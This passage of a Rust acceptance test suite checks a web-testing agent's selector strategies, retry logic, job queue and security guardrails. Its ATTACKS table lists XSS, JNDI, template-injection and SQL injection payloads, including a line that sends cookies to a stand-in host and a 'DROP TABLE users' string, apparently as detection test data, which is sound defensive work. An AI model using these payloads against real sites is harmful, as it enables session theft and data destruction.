//! Acceptance suite: one PASS/FAIL line per criterion. Runs without the
//! libtest harness so each line reads on its own; exits non-zero on any FAIL.

use std::collections::{BTreeMap, BTreeSet};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::sync::atomic::AtomicBool;
use std::sync::{Arc, Mutex, OnceLock};

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use testforge_core::agent::{
    execute_script, AgentConfig, ExecContext, ExecutionResult, Recovery, StepOutcome, StepStatus,
};
use testforge_core::browser::ErrorKind;
use testforge_core::enhance::{
    strategy2_selectors, strategy3_validate, AntiPattern, Decision, PipelineConfig, StrategyMask, ValidationReport,
};
use testforge_core::json::to_canonical_pretty;
use testforge_core::llm::Bridge;
use testforge_core::metrics::{
    ablation_run, all_masks, classify_failure, run_entry, summarize, AblationConfig, AblationRow, Corpus, CorpusEntry,
    FailureClass, ScriptRun,
};
use testforge_core::page::SiteContext;
use testforge_core::script::{parse_script, serialize_script, ActionKind, Provenance};
use testforge_core::security::{execute_probe, plan_probe, AuthHints, Guardrails, Owasp, Verdict};
use testforge_core::sim::{FaultKind, FaultSpec, SimSite, SiteModel};
use testforge_core::{Action, Browser, Clock, Selector, SimClock, Step, TestScript};
use testforge_queue::{
    is_edge, run_worker_loop, EnqueueRequest, ExecOutcome, Expected, JobControl, JobKind, JobRecord, JobStatus,
    JobStore, Lease, MemoryStore, Outcome, Queue, QueueConfig, QueueError, StoreError, WorkerOptions, EDGES,
};
use testforge_webdriver::mock::MockServer;
use testforge_webdriver::protocol::{self, WireRequest};
use testforge_webdriver::{conformance, RemoteConfig, WebDriverBrowser};

type Outcome_ = Result<String, String>;
type Check = (&'static str, fn() -> Outcome_);

macro_rules! ensure {
    ($cond:expr, $($fmt:tt)+) => {
        #[allow(clippy::neg_cmp_op_on_partial_ord)]
        if !($cond) {
            return Err(format!($($fmt)+));
        }
    };
}

fn main() {
    let checks: [Check; 12] = [
        ("S1 removes duplicate-link navigation failures", c1_strategy1),
        ("S2 makes touched selectors unique", c2_strategy2),
        ("S3 flags seeded anti-patterns and routes on score", c3_strategy3),
        ("S4 removes in-budget races; over-budget is timing", c4_strategy4),
        ("retry backoff and attempt counts", c5_retries),
        ("success threshold and strict <= lenient", c6_threshold),
        ("queue exactly-once with crash recovery", c7_queue_exactly_once),
        ("queue transitions stay on declared edges", c8_queue_edges),
        ("security probes and guardrails", c9_security),
        ("serialization round-trips and deterministic runs", c10_round_trips),
        ("ablation monotonicity", c11_monotonicity),
        ("WebDriver contract and golden requests", c12_webdriver),
    ];
    std::panic::set_hook(Box::new(|_| {}));
    let mut failed = 0;
    for (i, (name, check)) in checks.iter().enumerate() {
        let result = catch_unwind(AssertUnwindSafe(check)).unwrap_or_else(|p| {
            let msg = p
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_default();
            Err(format!("panicked: {msg}"))
        });
        match result {
            Ok(detail) => println!("PASS {:>2} {name}: {detail}", i + 1),
            Err(why) => {
                failed += 1;
                println!("FAIL {:>2} {name}: {why}", i + 1);
            }
        }
    }
    println!("{} of {} criteria passed", checks.len() - failed, checks.len());
    if failed > 0 {
        std::process::exit(1);
    }
}

// ---------------------------------------------------------------- helpers

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/sites")
}

fn corpus() -> &'static Corpus {
    static CORPUS: OnceLock<Corpus> = OnceLock::new();
    CORPUS.get_or_init(|| Corpus::load(&fixtures()).expect("fixture corpus"))
}

fn ablation_cfg() -> AblationConfig {
    AblationConfig::default()
}

/// Every mask over the whole corpus, computed once.
fn ablation() -> &'static [AblationRow] {
    static ROWS: OnceLock<Vec<AblationRow>> = OnceLock::new();
    ROWS.get_or_init(|| ablation_run(corpus(), &all_masks(), &ablation_cfg()).expect("ablation"))
}

fn row(mask: StrategyMask) -> &'static AblationRow {
    ablation().iter().find(|r| r.mask == mask).expect("mask present")
}

fn site_dir(name: &str) -> PathBuf {
    fixtures().join(name)
}

fn variant(name: &str, faults: Vec<FaultSpec>) -> Arc<SimSite> {
    let (model, dir) = SiteModel::load(&site_dir(name)).unwrap();
    SimSite::compile(model.with_faults(faults), &dir).unwrap()
}

fn run_on(site: &Arc<SimSite>, script: &TestScript) -> (ExecutionResult, SimClock, Box<dyn Browser>) {
    let clock = SimClock::new();
    let mut session = site.open_session(clock.clone());
    let cfg = AgentConfig::default();
    let ctx = ExecContext { cfg: &cfg, clock: &clock, sink: None, guardrails: None, job_id: &script.id };
    let result = execute_script(script, &mut session, &ctx).unwrap();
    (result, clock, Box::new(session))
}

fn script(id: &str, base: &str, actions: Vec<Action>) -> TestScript {
    TestScript {
        id: id.into(),
        base_url: base.into(),
        steps: actions.into_iter().enumerate().map(|(i, a)| Step::new(i as u32 + 1, a)).collect(),
        provenance: Provenance::Manual,
    }
}

fn delay_fault(path: &str, css: &str, ms: Option<u64>) -> FaultSpec {
    FaultSpec {
        kind: if ms.is_some() { FaultKind::ElementDelay } else { FaultKind::AsyncContent },
        target: Some(path.into()),
        selector: Some(css.into()),
        magnitude: ms,
        redirect_to: None,
    }
}

// ------------------------------------------------------------ criterion 1

/// Replays a script action by action on `browser` and counts steps after
/// which the browser sits on a different URL.
fn url_changes(script: &TestScript, browser: &mut dyn Browser) -> usize {
    let mut changes = 0;
    let mut here = String::new();
    for step in &script.steps {
        let _ = match &step.action {
            Action::Navigate { url } => {
                let target = script.resolve_url(url).map(|u| u.to_string()).unwrap_or_else(|| url.clone());
                browser.navigate(&target).map(drop)
            }
            Action::Click { selector } => browser.click(selector).map(drop),
            Action::Fill { selector, value } => browser.fill(selector, value).map(drop),
            Action::Submit { selector } => browser.submit(selector).map(drop),
            Action::Wait { ms } => browser.wait(*ms).map(drop),
            Action::AssertText { .. } | Action::AssertVisible { .. } => Ok(()),
        };
        let now = browser.current_url().unwrap_or_default();
        if now != here {
            changes += 1;
            here = now;
        }
    }
    changes
}

fn c1_strategy1() -> Outcome_ {
    let baseline = row(StrategyMask::NONE);
    let mut navigations = 0;
    let mut affected = Vec::new();
    for entry in &corpus().entries {
        if entry.site.model.faults_of(FaultKind::DuplicateNavLinks).next().is_none() {
            continue;
        }
        affected.push(entry.name.clone());
        let clean = SimSite::compile(entry.site.model.hardened(), &site_dir(&entry.name)).unwrap();
        for (name, script, _) in baseline.runs.iter().filter(|(n, _, _)| n.starts_with(&format!("{}/", entry.name))) {
            let mut session = clean.open_session(SimClock::new());
            let n = url_changes(script, &mut session);
            ensure!(n > 0, "{name} never navigates");
            navigations += n;
        }
    }
    ensure!(affected.len() >= 2, "only {} fixtures carry duplicate links", affected.len());
    ensure!(navigations >= 20, "corpus has {navigations} scripted navigations, need 20");
    for fixture in &affected {
        let ambiguous = baseline
            .runs
            .iter()
            .filter(|(n, _, _)| n.starts_with(&format!("{fixture}/")))
            .filter_map(|(_, _, r)| r.result.first_failure())
            .filter(|o| o.navigational && o.error_kind == Some(ErrorKind::AmbiguousSelector))
            .count();
        ensure!(ambiguous >= 1, "baseline shows no ambiguous navigation failure on {fixture}");
    }
    let with_s1: Vec<&AblationRow> = ablation().iter().filter(|r| r.mask.s1).collect();
    for r in &with_s1 {
        let nav = r.summary.failure_taxonomy.navigation;
        ensure!(nav == 0, "{} still has {nav} navigation failures", r.mask.label());
    }
    Ok(format!(
        "{navigations} navigations over {} fixtures; baseline navigation failures {}; 0 under all {} masks with S1",
        affected.len(),
        baseline.summary.failure_taxonomy.navigation,
        with_s1.len()
    ))
}

// ------------------------------------------------------------ criterion 2

/// Match count from the html5ever-backed `scraper` engine, filtered by the
/// text hint the way the browser applies it.
fn oracle_count(html: &str, sel: &Selector) -> usize {
    let doc = scraper::Html::parse_document(html);
    let css = scraper::Selector::parse(&sel.combined_css()).expect("oracle parses selector");
    doc.select(&css)
        .filter(|e| match &sel.text_hint {
            None => true,
            Some(h) => {
                let text: String = e.text().collect::<Vec<_>>().join(" ");
                let norm = text.split_whitespace().collect::<Vec<_>>().join(" ");
                norm.contains(h.as_str())
            }
        })
        .count()
}

/// Interactive elements of one page, as candidate selectors the way a naive
/// author would write them.
fn candidates(ctx: &SiteContext, path: &str) -> Vec<(Selector, bool, String)> {
    let page = ctx.page(path).unwrap();
    let mut out = Vec::new();
    for e in &page.elements {
        let fillable = matches!(e.tag.as_str(), "input" | "textarea");
        if !matches!(e.tag.as_str(), "input" | "textarea" | "button" | "select" | "a") {
            continue;
        }
        out.push((Selector::css(e.tag.clone()), fillable, e.text.clone()));
        for attr in ["name", "type", "id"] {
            if let Some(v) = e.attr(attr) {
                let css = if attr == "id" { format!("#{v}") } else { format!("{}[{attr}='{v}']", e.tag) };
                out.push((Selector::css(css), fillable, e.text.clone()));
            }
        }
        if let Some(class) = e.attr("class").and_then(|c| c.split_whitespace().next()) {
            out.push((Selector::css(format!("{}.{class}", e.tag)), fillable, e.text.clone()));
        }
    }
    out
}

fn c2_strategy2() -> Outcome_ {
    let mut sites = Vec::new();
    for entry in &corpus().entries {
        let session_html = |path: &str| {
            let mut s = entry.site.open_session(SimClock::new());
            s.navigate(&entry.site.url_for(path)).unwrap();
            s.wait(10_000).unwrap();
            s.page_source().unwrap()
        };
        let pages: Vec<(String, String)> = entry.context.pages.keys().map(|p| (p.clone(), session_html(p))).collect();
        sites.push((entry, pages));
    }
    let multi_form =
        sites.iter().flat_map(|(_, pages)| pages).filter(|(_, html)| html.matches("<form").count() >= 2).count();
    ensure!(multi_form >= 2, "fixtures have {multi_form} pages with two forms");

    let mut rng = ChaCha8Rng::seed_from_u64(2);
    let (mut touched, mut steps_checked) = (0, 0);
    for n in 0..500 {
        let (entry, pages) = &sites[rng.random_range(0..sites.len())];
        let mut actions = Vec::new();
        let mut page_of_step = Vec::new();
        let mut current = pages[rng.random_range(0..pages.len())].0.clone();
        actions.push(Action::Navigate { url: current.clone() });
        page_of_step.push(current.clone());
        for _ in 0..rng.random_range(1..8) {
            if rng.random_bool(0.15) {
                current = pages[rng.random_range(0..pages.len())].0.clone();
                actions.push(Action::Navigate { url: current.clone() });
                page_of_step.push(current.clone());
                continue;
            }
            let cands = candidates(&entry.context, &current);
            if cands.is_empty() {
                continue;
            }
            let (selector, fillable, _) = cands[rng.random_range(0..cands.len())].clone();
            actions.push(if fillable && rng.random_bool(0.7) {
                Action::Fill { selector, value: "x".into() }
            } else {
                Action::AssertVisible { selector }
            });
            page_of_step.push(current.clone());
        }
        let mut s = script(&format!("rand-{n}"), &entry.site.url_for("/"), actions);
        for step in s.steps.iter_mut().skip(1) {
            if step.action.selector().is_none() || !rng.random_bool(0.4) {
                continue;
            }
            let cands = candidates(&entry.context, &page_of_step[step.index as usize - 1]);
            let hint = cands[rng.random_range(0..cands.len())].2.clone();
            if !hint.is_empty() {
                step.metadata.insert("target_text".into(), hint);
            }
        }
        let out = strategy2_selectors(&s, &entry.context);
        for (before, after) in s.steps.iter().zip(&out.steps) {
            let (Some(b), Some(a)) = (before.action.selector(), after.action.selector()) else {
                continue;
            };
            let html = &pages.iter().find(|(p, _)| *p == page_of_step[before.index as usize - 1]).unwrap().1;
            let (nb, na) = (oracle_count(html, b), oracle_count(html, a));
            steps_checked += 1;
            ensure!(na <= nb, "{}: S2 raised {b} ({nb}) to {a} ({na})", s.id);
            if a != b {
                touched += 1;
                ensure!(na == 1, "{}: S2 rewrote {b} to {a} which matches {na}", s.id);
            }
        }
    }
    ensure!(touched > 0, "S2 touched no selector");
    Ok(format!("500 random scripts, {steps_checked} selectors checked, {touched} rewritten, all unique"))
}

// ------------------------------------------------------------ criterion 3

const GATE_HOME: &str = r#"<html><body><main><h1>Gate</h1>
<a href="/about">About</a>
<input name="q"><input name="ref" readonly value="R-1">
<button id="show" type="button">Show</button>
<button id="ghost" type="button" style="display:none">Ghost</button>
</main></body></html>"#;
const GATE_ABOUT: &str = r#"<html><body><main><h1>About</h1>
<a href="/">Home</a>
<input name="comment"><input name="code" readonly value="C-9">
<button id="more" type="button">More</button>
<button id="secret" type="button" hidden>Secret</button>
</main></body></html>"#;

struct GatePage {
    path: &'static str,
    fill: &'static str,
    readonly: &'static str,
    click: &'static str,
    invisible: &'static str,
}

const GATE: [GatePage; 2] = [
    GatePage { path: "/", fill: "input[name='q']", readonly: "input[name='ref']", click: "#show", invisible: "#ghost" },
    GatePage {
        path: "/about",
        fill: "input[name='comment']",
        readonly: "input[name='code']",
        click: "#more",
        invisible: "#secret",
    },
];

fn c3_strategy3() -> Outcome_ {
    let cfg = PipelineConfig::default();
    let site = SimSite::from_pages("gate", &[("/", GATE_HOME), ("/about", GATE_ABOUT)], vec![], None).unwrap();
    let ctx = site.scrape_all();
    let mut rng = ChaCha8Rng::seed_from_u64(3);
    let mut seeded_total = 0;
    let scripts = 300;
    for n in 0..scripts {
        let mut page = &GATE[rng.random_range(0..2)];
        let mut actions = vec![Action::Navigate { url: page.path.into() }];
        let mut expected: Vec<(u32, AntiPattern)> = Vec::new();
        let mut seeds = 0;
        for _ in 0..rng.random_range(3..12) {
            let at = actions.len() as u32 + 1;
            match rng.random_range(0..7) {
                0 => {
                    page = &GATE[rng.random_range(0..2)];
                    actions.push(Action::Navigate { url: page.path.into() });
                }
                1 => actions.push(Action::Fill { selector: Selector::css(page.fill), value: "v".into() }),
                2 => actions.push(Action::Click { selector: Selector::css(page.click) }),
                3 => actions.push(Action::AssertVisible { selector: Selector::css("h1") }),
                4 => {
                    actions.push(Action::Click { selector: Selector::css(page.invisible) });
                    expected.push((at, AntiPattern::InvisibleClick));
                }
                5 => {
                    actions.push(Action::Fill { selector: Selector::css(page.readonly), value: "v".into() });
                    expected.push((at, AntiPattern::ReadonlyFill));
                }
                _ => {
                    actions.push(Action::Navigate { url: format!("/missing-{n}") });
                    expected.push((at, AntiPattern::UnknownRoute));
                    actions.push(Action::Navigate { url: page.path.into() });
                }
            }
            seeds = expected.len();
        }
        if seeds == 0 {
            let at = actions.len() as u32 + 1;
            actions.push(Action::Click { selector: Selector::css(page.invisible) });
            expected.push((at, AntiPattern::InvisibleClick));
        }
        seeded_total += expected.len();
        let s = script(&format!("seeded-{n}"), "http://gate.test/", actions);
        let report = strategy3_validate(&s, &ctx, &cfg);
        let got: Vec<(u32, AntiPattern)> = report.findings.iter().map(|f| (f.step_index, f.anti_pattern)).collect();
        ensure!(got == expected, "{}: findings {got:?}, seeded {expected:?}", s.id);
        let score = 100usize.saturating_sub(15 * expected.len()) as u8;
        ensure!(report.score == score, "{}: score {} for {} findings", s.id, report.score, expected.len());
        ensure!(report.decision == cfg.decide(score), "{}: decision {:?} at {score}", s.id, report.decision);
    }
    let routing = [
        (91, Decision::Proceed),
        (90, Decision::ManualReview),
        (60, Decision::ManualReview),
        (59, Decision::Regenerate),
    ];
    for (score, want) in routing {
        ensure!(cfg.decide(score) == want, "score {score} routes to {:?}, want {want:?}", cfg.decide(score));
    }
    Ok(format!("{scripts} seeded scripts, {seeded_total} anti-patterns, all at the right steps; 91/90/60/59 routed"))
}

// ------------------------------------------------------------ criterion 4

fn c4_strategy4() -> Outcome_ {
    let cfg = ablation_cfg();
    let bridge = Bridge::from_config(cfg.provider.clone()).unwrap();
    let p = &cfg.pipeline;
    let budget = p.nav_wait_ms.max(p.click_route_wait_ms).max(p.post_submit_wait_ms);
    let no_s4 = StrategyMask { s4: false, ..StrategyMask::ALL };
    let (mut within, mut over) = (0, 0);
    for entry in &corpus().entries {
        let faults = &entry.site.model.faults;
        for (fi, fault) in faults.iter().enumerate().filter(|(_, f)| f.kind == FaultKind::ElementDelay) {
            let magnitude = fault.magnitude.unwrap_or(u64::MAX);
            let mut rest = faults.clone();
            rest.remove(fi);
            let without = CorpusEntry::new(&entry.name, variant(&entry.name, rest), entry.scripts.clone());
            let mut hit = 0;
            for spec in &entry.scripts {
                let (_, faulted) = run_entry(entry, spec, no_s4, &cfg, &bridge).unwrap();
                let (_, clean) = run_entry(&without, spec, no_s4, &cfg, &bridge).unwrap();
                if faulted.result.success || !clean.result.success {
                    continue;
                }
                hit += 1;
                let name = format!("{}/{}", entry.name, spec.id);
                let first = faulted.result.first_failure().unwrap();
                ensure!(
                    first.error_kind == Some(ErrorKind::ElementNotFound),
                    "{name} without S4 fails with {:?}, want element_not_found",
                    first.error_kind
                );
                let (_, enhanced) = run_entry(entry, spec, StrategyMask::ALL, &cfg, &bridge).unwrap();
                if magnitude <= budget {
                    within += 1;
                    ensure!(
                        enhanced.result.success,
                        "{name}: {magnitude} ms delay within {budget} ms still fails with S4"
                    );
                } else {
                    over += 1;
                    ensure!(!enhanced.result.success, "{name}: {magnitude} ms delay over budget unexpectedly passes");
                    let class = classify_failure(&enhanced);
                    ensure!(class == Some(FailureClass::Timing), "{name}: over-budget failure classed {class:?}");
                }
            }
            ensure!(hit > 0, "no script exercises the {magnitude} ms delay on {}", entry.name);
        }
    }
    ensure!(within > 0 && over > 0, "need delays on both sides of the budget: {within} within, {over} over");
    let timing = row(StrategyMask::ALL).summary.failure_taxonomy.timing;
    ensure!(timing == over, "S1-S4 run has {timing} timing failures, {over} over-budget scripts");
    Ok(format!(
        "{within} in-budget delayed scripts pass with S4 (budget {budget} ms); {over} over-budget classed timing"
    ))
}

// ------------------------------------------------------------ criterion 5

const RETRY_HOME: &str = r#"<html><body><main><h1>Home</h1><button id="go">Go</button></main></body></html>"#;

fn c5_retries() -> Outcome_ {
    let cfg = AgentConfig::default();
    let base = cfg.backoff_base_ms;
    let s = script(
        "retry",
        "http://retry.test/",
        vec![Action::Navigate { url: "/".into() }, Action::Click { selector: Selector::css("#go") }],
    );

    let late =
        SimSite::from_pages("retry", &[("/", RETRY_HOME)], vec![delay_fault("/", "#go", Some(base))], None).unwrap();
    let (r, _, _) = run_on(&late, &s);
    let o = &r.outcomes[1];
    ensure!(o.status == StepStatus::Recovered, "appearing element: status {:?}", o.status);
    ensure!(o.attempts == 2, "appearing element: {} attempts", o.attempts);
    ensure!(o.recovery == Some(Recovery::RetryWait), "appearing element: recovery {:?}", o.recovery);
    ensure!(o.backoff_ms == vec![base], "appearing element: backoff {:?}", o.backoff_ms);

    let never = SimSite::from_pages("retry", &[("/", RETRY_HOME)], vec![delay_fault("/", "#go", None)], None).unwrap();
    let clock = SimClock::new();
    let mut session = never.open_session(clock.clone());
    session.navigate("http://retry.test/").unwrap();
    let t0 = clock.now_ms();
    let only_click = script("retry", "http://retry.test/", vec![Action::Click { selector: Selector::css("#go") }]);
    let ctx = ExecContext { cfg: &cfg, clock: &clock, sink: None, guardrails: None, job_id: "retry" };
    let r = execute_script(&only_click, &mut session, &ctx).unwrap();
    let elapsed = clock.now_ms() - t0;
    let o = &r.outcomes[0];
    ensure!(o.status == StepStatus::Failed, "missing element: status {:?}", o.status);
    ensure!(o.attempts == 3, "missing element: {} attempts", o.attempts);
    ensure!(o.backoff_ms == vec![base, 2 * base], "missing element: backoff {:?}", o.backoff_ms);
    ensure!(elapsed == 3 * base, "virtual time advanced {elapsed} ms, want {}", 3 * base);
    Ok(format!("delays {base}/{} ms; recovered after 2 attempts; failed after 3", 2 * base))
}

// ------------------------------------------------------------ criterion 6

fn outcome(i: u32, status: StepStatus) -> StepOutcome {
    StepOutcome {
        step_index: i,
        action: ActionKind::Click,
        status,
        attempts: 1,
        recovery: None,
        error: (status == StepStatus::Failed).then(|| "element not found".into()),
        error_kind: (status == StepStatus::Failed).then_some(ErrorKind::ElementNotFound),
        target: "#x".into(),
        navigational: false,
        backoff_ms: Vec::new(),
        duration_ms: 0,
    }
}

fn result_with(ok: usize, total: usize) -> ExecutionResult {
    let outcomes =
        (0..total).map(|i| outcome(i as u32 + 1, if i < ok { StepStatus::Ok } else { StepStatus::Failed })).collect();
    ExecutionResult::new("job", "s", outcomes, AgentConfig::default().success_threshold)
}

fn c6_threshold() -> Outcome_ {
    ensure!(result_with(8, 10).success, "8 of 10 should succeed");
    ensure!(!result_with(7, 10).success, "7 of 10 should fail");
    let mut rng = ChaCha8Rng::seed_from_u64(6);
    let statuses = [StepStatus::Ok, StepStatus::Recovered, StepStatus::Failed, StepStatus::Skipped];
    for batch in 0..1000 {
        let runs: Vec<ScriptRun> = (0..rng.random_range(1..20))
            .map(|_| {
                let n = rng.random_range(1..15u32);
                let outcomes = (1..=n).map(|i| outcome(i, statuses[rng.random_range(0..4)])).collect();
                let result = ExecutionResult::new("job", "s", outcomes, 0.8);
                let rerun = if result.success { None } else { Some(rng.random_bool(0.5)) };
                ScriptRun { result, passes_with_larger_waits: rerun }
            })
            .collect();
        let summary = summarize(&runs, StrategyMask::ALL).unwrap();
        let t = summary.totals;
        let lenient = runs
            .iter()
            .filter(|r| {
                let done = r.result.outcomes.iter().filter(|o| o.completed()).count();
                done * 10 >= r.result.outcomes.len() * 8
            })
            .count();
        let strict = runs.iter().filter(|r| r.result.outcomes.iter().all(|o| o.completed())).count();
        ensure!(t.scripts == runs.len(), "batch {batch}: {} scripts of {}", t.scripts, runs.len());
        ensure!(
            t.succeeded == lenient && t.strict_succeeded == strict,
            "batch {batch}: totals {t:?}, oracle {strict}/{lenient}"
        );
        ensure!(
            t.strict_succeeded <= t.succeeded,
            "batch {batch}: strict {} > lenient {}",
            t.strict_succeeded,
            t.succeeded
        );
    }
    Ok("8/10 passes, 7/10 fails; strict <= lenient over 1000 random batches".into())
}

// ------------------------------------------------------------ criterion 7

fn request(n: usize) -> EnqueueRequest {
    EnqueueRequest {
        session_id: format!("s{n}"),
        target_url: format!("https://example.test/page/{n}"),
        instructions: format!("check page {n}"),
        kind: JobKind::Functional,
    }
}

fn once(id: &str) -> WorkerOptions {
    let mut o = WorkerOptions::new(id);
    o.stop_when_idle = true;
    o.max_jobs = Some(1);
    o
}

fn c7_queue_exactly_once() -> Outcome_ {
    let store: Arc<dyn JobStore> = Arc::new(MemoryStore::new());
    let clock = SimClock::starting_at(1_000_000);
    let cfg = QueueConfig::default();
    let queue = |c: &SimClock| Queue::new(store.clone(), Arc::new(c.clone()) as Arc<dyn Clock>, cfg.clone()).unwrap();
    let q = queue(&clock);
    let ids: Vec<String> = (0..200).map(|i| q.enqueue(request(i)).unwrap()).collect();

    let calls: Mutex<BTreeMap<String, usize>> = Mutex::new(BTreeMap::new());
    let crash = |job: &JobRecord, _: &JobControl<'_>| {
        calls.lock().unwrap().insert(format!("crashed:{}", job.job_id), 1);
        ExecOutcome::Crashed
    };
    let killed = run_worker_loop(&q, &crash, &once("worker-killed"), &AtomicBool::new(false));
    ensure!(killed.crashed, "the killed worker did not crash");
    let victim = q.list().unwrap().into_iter().find(|j| j.status == JobStatus::Running).ok_or("no running job")?;
    let stale = Lease { job_id: victim.job_id.clone(), worker_id: "worker-killed".into(), epoch: victim.epoch };

    let work = |job: &JobRecord, _: &JobControl<'_>| {
        *calls.lock().unwrap().entry(job.job_id.clone()).or_default() += 1;
        ExecOutcome::Succeeded { result_ref: Some(format!("out/{}", job.job_id)) }
    };
    let reports = std::thread::scope(|s| {
        let handles: Vec<_> = (0..10)
            .map(|w| {
                let q = queue(&clock);
                let work = &work;
                s.spawn(move || {
                    let mut opts = WorkerOptions::new(format!("worker-{w}"));
                    opts.stop_when_idle = true;
                    run_worker_loop(&q, work, &opts, &AtomicBool::new(false))
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect::<Vec<_>>()
    });
    let drained: usize = reports.iter().map(|r| r.succeeded.len()).sum();
    ensure!(drained == 199, "10 workers completed {drained} jobs, want 199");
    ensure!(reports.iter().all(|r| r.errors.is_empty() && r.abandoned.is_empty()), "worker errors: {reports:?}");
    ensure!(q.get(&victim.job_id).unwrap().status == JobStatus::Running, "victim left running before the timeout");

    clock.advance(cfg.stuck_timeout_ms);
    ensure!(q.recover_stuck().unwrap().is_empty(), "recovered at exactly the timeout");
    clock.advance(1);
    ensure!(q.recover_stuck().unwrap() == vec![victim.job_id.clone()], "victim not re-queued after the timeout");
    let (_, lease) = q.claim_next("worker-rescue").unwrap().ok_or("nothing to reclaim")?;
    q.mark_running(&lease).unwrap();
    let fenced = |r: Result<JobRecord, QueueError>| matches!(r, Err(QueueError::NotOwner { .. }));
    ensure!(fenced(q.heartbeat(&stale)), "stale heartbeat accepted");
    ensure!(fenced(q.complete(&stale, Outcome::Succeeded, None)), "stale completion accepted");
    *calls.lock().unwrap().entry(lease.job_id.clone()).or_default() += 1;
    q.complete(&lease, Outcome::Succeeded, Some("out/rescued".into())).unwrap();
    let settled = q.get(&victim.job_id).unwrap();
    let late = q.complete(&stale, Outcome::Failed, None);
    ensure!(
        matches!(late, Err(QueueError::NotOwner { .. } | QueueError::TerminalJob { .. })),
        "stale completion after rescue returned {late:?}"
    );
    ensure!(q.get(&victim.job_id).unwrap() == settled, "stale completion changed the settled record");

    let all = q.list().unwrap();
    let done = all.iter().filter(|j| j.status == JobStatus::Succeeded).count();
    ensure!(done == 200, "{done} of 200 jobs succeeded");
    let calls = calls.into_inner().unwrap();
    for id in &ids {
        ensure!(calls.get(id) == Some(&1), "{id} executed {:?} times", calls.get(id));
    }
    Ok(format!("200/200 terminal, each executed once; {} recovered, stale writes fenced", victim.job_id))
}

// ------------------------------------------------------------ criterion 8

#[derive(Default)]
struct Recording {
    inner: MemoryStore,
    seen: Mutex<BTreeSet<(JobStatus, JobStatus)>>,
}

impl JobStore for Recording {
    fn next_id(&self) -> Result<u64, StoreError> {
        self.inner.next_id()
    }
    fn insert(&self, record: JobRecord) -> Result<(), StoreError> {
        self.inner.insert(record)
    }
    fn get(&self, job_id: &str) -> Result<Option<JobRecord>, StoreError> {
        self.inner.get(job_id)
    }
    fn list(&self) -> Result<Vec<JobRecord>, StoreError> {
        self.inner.list()
    }
    fn compare_and_set(&self, expected: &Expected, new: JobRecord) -> Result<bool, StoreError> {
        if expected.status != new.status {
            self.seen.lock().unwrap().insert((expected.status, new.status));
        }
        self.inner.compare_and_set(expected, new)
    }
}

fn c8_queue_edges() -> Outcome_ {
    let mut rng = ChaCha8Rng::seed_from_u64(8);
    let mut union = BTreeSet::new();
    let sequences = 10_000;
    for seq in 0..sequences {
        let store = Arc::new(Recording::default());
        let clock = SimClock::starting_at(1_000_000);
        let q = Queue::new(store.clone(), Arc::new(clock.clone()) as Arc<dyn Clock>, QueueConfig::default()).unwrap();
        let mut leases: Vec<Lease> = Vec::new();
        for _ in 0..rng.random_range(5..30) {
            let pick = |rng: &mut ChaCha8Rng, leases: &Vec<Lease>| leases[rng.random_range(0..leases.len())].clone();
            match rng.random_range(0..8) {
                0 | 1 => drop(q.enqueue(request(seq))),
                2 => {
                    if let Ok(Some((_, l))) = q.claim_next(["a", "b", "c"][rng.random_range(0..3)]) {
                        leases.push(l);
                    }
                }
                3 if !leases.is_empty() => drop(q.mark_running(&pick(&mut rng, &leases))),
                4 if !leases.is_empty() => drop(q.heartbeat(&pick(&mut rng, &leases))),
                5 if !leases.is_empty() => {
                    let outcome = if rng.random_bool(0.5) { Outcome::Succeeded } else { Outcome::Failed };
                    drop(q.complete(&pick(&mut rng, &leases), outcome, None));
                }
                6 => drop(q.recover_stuck()),
                _ => clock.advance([1_000, 30_000, 90_000, 91_000][rng.random_range(0..4)]),
            }
        }
        let seen = store.seen.lock().unwrap();
        for &(from, to) in seen.iter() {
            ensure!(is_edge(from, to), "sequence {seq} wrote {from} -> {to}");
        }
        union.extend(seen.iter().copied());
    }
    let declared: BTreeSet<_> = EDGES.iter().copied().collect();
    ensure!(union == declared, "observed {union:?}, declared {declared:?}");
    Ok(format!("{sequences} random sequences; all {} declared edges reached, none outside", declared.len()))
}

// ------------------------------------------------------------ criterion 9

#[derive(serde::Deserialize)]
struct ProbeSpec {
    description: String,
    owasp: Owasp,
    seeded: bool,
}

const ATTACKS: [(&str, [&str; 6]); 6] = [
    (
        "script_tag",
        [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "< script >fetch('/steal')</ script >",
            "\"><script>location='http://x.test/'+document.cookie</script>",
        ],
    ),
    (
        "js_uri",
        [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(document.domain)",
            "vbscript:msgbox(1)",
            "javascript :void(0)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "livescript:run()",
        ],
    ),
    (
        "event_handler",
        [
            "<img src=x onerror=alert(1)>",
            "<body onload=alert(1)>",
            "<div onmouseover=\"alert(1)\">hi</div>",
            "<svg onload =alert(1)>",
            "<input onfocus=alert(1) autofocus>",
            "<details ontoggle=alert(1) open>",
        ],
    ),
    (
        "data_uri",
        [
            "data:text/html,<h1>x</h1>",
            "data:text/html;base64,PHNjcmlwdD4=",
            "DATA:application/javascript,alert(1)",
            "data: image/svg+xml,<svg/>",
            "data:text/javascript,alert(1)",
            "data:application/xhtml+xml,<x/>",
        ],
    ),
    (
        "template_expression",
        [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{constructor.constructor('alert(1)')()}}",
            "${jndi:ldap://evil.test/a}",
        ],
    ),
    (
        "sql_meta",
        [
            "' OR '1'='1",
            "\" or 1=1",
            "'; DROP TABLE users; --",
            "admin'--",
            "1 UNION SELECT password FROM users",
            "x' AND 'a'='a",
        ],
    ),
];

const BENIGN: [&str; 36] = [
    "Ada Lovelace",
    "ana@example.com",
    "+1 (555) 010-2030",
    "221B Baker Street, London",
    "O'Brien",
    "Renée Müller",
    "Please deliver after 5pm.",
    "Order #4521 - two lamps",
    "50% off this week",
    "I love this desk & chair",
    "Meeting at 10:30; bring notes",
    "Score: 3/4",
    "Q3 revenue up 12%",
